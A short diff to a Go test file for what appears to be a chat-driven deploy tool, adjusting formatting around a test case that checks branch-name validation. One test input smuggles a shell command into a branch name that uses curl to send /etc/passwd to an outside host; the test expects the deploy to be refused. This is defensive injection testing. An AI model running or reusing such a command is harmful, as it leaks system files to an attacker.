@@ -689,7 +689,7 @@ func TestDeployNothing(t *testing.T) {
 			name: "unavailable", query: "login-fix",
 			err:  switchboard.Errorf(switchboard.EUNAVAILABLE, "GitHub did not answer in 10s."),
 			want: "GitHub did not answer in 10s. Nothing was deployed.",
-		},		{
+		}, {
 			// A branch named to break out of the user data's shell.
 			name: "unsafe branch name", query: "evil",
 			want: `I won't deploy "feature/evil;curl$IFS-d@/etc/passwd$IFS-xhttp://x": a branch name here may hold only letters, digits and . _ / : + -, since it goes into the instance's user data.`,
